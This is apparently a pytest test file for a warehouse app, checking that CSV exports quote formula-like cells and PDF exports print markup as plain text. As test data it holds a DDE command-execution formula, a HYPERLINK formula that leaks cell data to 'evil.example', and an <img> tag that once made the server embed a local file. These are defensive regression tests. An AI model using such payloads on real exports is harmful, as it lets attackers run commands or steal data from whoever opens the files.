"""Exports are data, never instructions (issue 13 items 5 and 9): a formula typed by a client user
reaches every CSV export only as text, and a client name or incident text with ReportLab markup
is printed as typed in the invoice and review PDFs (S2.1, S2.8, S2.11, S1.5, S3.7)."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image

from peakguard.clock import FrozenClock
from peakguard.db import Database
from peakguard.export_safety import csv_document, spreadsheet_cell
from peakguard.incidents import export, reporting
from peakguard.plan.schemas import Plan
from peakguard.warehouse import billing, carriers, inbound, leases, outbound, picking
from peakguard.warehouse.models import Client
from tests.factories import ADMIN, EAN, OPERATOR, setup_warehouse

API = "/api/v1/warehouse"
SKU = "=cmd|' /C calc'!A0"
REF = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _rows(text: str) -> list[list[str]]:
    """A CSV as a spreadsheet reads it: the UTF-8 byte-order mark (for Excel) is not a cell."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_a_formula_gets_a_quote(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert _rows(csv_document([["x", f"{start}SUM(A1)"]]))[0][1] == f"'{start}SUM(A1)"


def test_numbers_the_code_writes_stay_numbers() -> None:
    """A negative amount is a number a spreadsheet must still add up; only text is quoted."""
    assert _rows(csv_document([[Decimal("-5.00"), -3, date(2026, 11, 11), "plain", "a=b"]])) == [
        ["-5.00", "-3", "2026-11-11", "plain", "a=b"]
    ]


def test_a_client_users_formulas_reach_every_export_as_text(
    client: TestClient, db: Database, clock: FrozenClock, plan: Plan, headers_for: Any
) -> None:
    """The SKU and the order ref a client user types, through the operators' stock CSV, the
    carrier manifest, the client's stock CSV and the compensation register's CSV."""
    cid, _ = setup_warehouse(db, clock, plan)
    mine, op = headers_for("client", client_id=cid), headers_for("warehouse")
    assert (
        client.post(
            f"{API}/skus", json={"client_id": cid, "code": SKU, "name": SKU, "barcode": EAN}, headers=mine
        ).status_code
        == 201
    )
    now = clock.now()
    with db.transaction() as s:
        plan_in = inbound.create_plan(s, ADMIN, now, client_id=cid, lines=[inbound.PlanLineIn(SKU, 2)])
        inbound.receive(s, OPERATOR, now, plan_id=plan_in.id, barcode=EAN, quantity=2)
        pallet = inbound.palletize(s, OPERATOR, now, client_id=cid, items=[inbound.PalletItem(SKU, 2)])
        inbound.putaway(s, OPERATOR, now, pallet_id=pallet.id, location_code="A-01-1")
    order = client.post(
        f"{API}/orders",
        json={"client_id": cid, "ref": REF, "carrier": "zto", "lines": [{"sku": SKU, "quantity": 1}]},
        headers=mine,
    )
    assert order.status_code == 201, order.text
    with db.transaction() as s:
        oid = order.json()["id"]
        outbound.allocate(s, OPERATOR, now, oid)
        wave = outbound.create_wave(s, OPERATOR, now)
        task = picking.next_task(s, wave.id)
        assert task is not None
        picking.scan_confirm(s, OPERATOR, now, task.id, task.location, task.barcode)
        picking.pack(s, OPERATOR, now, plan, oid, weight_kg="1")
        manifest = carriers.hand_over(s, OPERATOR, now, plan, "zto")

    for who in (op, mine):
        stock = _rows(client.get(f"{API}/stock/export?format=csv", headers=who).text)
        assert stock[0][1] == "sku" and {row[1] for row in stock[1:]} == {"'" + SKU}
    lines = _rows(client.get(f"{API}/manifests/{manifest.id}/export", headers=op).text)
    assert lines[1][3] == "'" + REF and lines[1][5] == "1.000"

    member = headers_for("member")
    entry = {"order_id": REF, "shop": "-2+3", "order_amount": "12.50"}
    assert client.post("/api/v1/compensation", json=entry, headers=member).status_code == 201
    register = _rows(client.get("/api/v1/compensation/export.csv", headers=member).text)
    assert register[1][:3] == ["'" + REF, "'-2+3", "12.50"]


def test_invoice_csv_keeps_its_numbers(
    client: TestClient, db: Database, clock: FrozenClock, plan: Plan, headers_for: Any
) -> None:
    cid, _ = setup_warehouse(db, clock, plan)
    with db.transaction() as s:
        leases.create_lease(
            s, ADMIN, clock.now(), plan, client_id=cid, area_m2="30", daily_rate="2", start=date(2026, 11, 1)
        )
        invoice = billing.issue_invoice(
            s, ADMIN, datetime(2026, 12, 2, tzinfo=UTC), plan, client_id=cid, month="2026-11"
        )
    text = client.get(f"{API}/invoices/{invoice.id}/export?format=csv&lang=en", headers=headers_for("admin"))
    rows = _rows(text.text)
    assert rows[0] == ["Charge", "Description", "Quantity", "Unit price", "Amount"]
    assert (
        rows[1][0] == "Storage" and rows[1][4] == "1800.00" and rows[-1] == ["Total", "", "", "", "1800.00"]
    )


@pytest.fixture
def picture() -> Any:
    """A small PNG on a short path (a client name holds 120 characters)."""
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        path = Path(folder) / "p.png"
        Image.new("RGB", (8, 8), "red").save(path)
        yield path


@pytest.mark.parametrize("name", ["a<b & c", '<img src="{picture}" width="50" height="50"/>', "<b>bold"])
def test_invoice_pdf_prints_a_client_name_as_typed(
    client: TestClient,
    db: Database,
    clock: FrozenClock,
    plan: Plan,
    headers_for: Any,
    picture: Path,
    name: str,
) -> None:
    """``a<b`` used to answer 500; an ``<img>`` tag made the server open a local file and embed it."""
    cid, _ = setup_warehouse(db, clock, plan)
    with db.transaction() as s:
        s.get(Client, cid).name = name.format(picture=picture)  # type: ignore[union-attr]
        invoice = billing.issue_invoice(
            s, ADMIN, datetime(2026, 12, 2, tzinfo=UTC), plan, client_id=cid, month="2026-11"
        )
    pdf = client.get(f"{API}/invoices/{invoice.id}/export?format=pdf", headers=headers_for("admin"))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert b"/Subtype /Image" not in pdf.content


def test_review_pdf_prints_incident_text_as_typed(
    db: Database, clock: FrozenClock, plan: Plan, picture: Path
) -> None:
    with db.transaction() as s:
        result = reporting.report(
            s, ADMIN, clock.now(), kind="lost", area=f'<img src="{picture}"/>', count=1, plan=plan
        )
        document = export.pdf(s, result.incident, plan, "en")
    assert document.startswith(b"%PDF") and b"/Subtype /Image" not in document
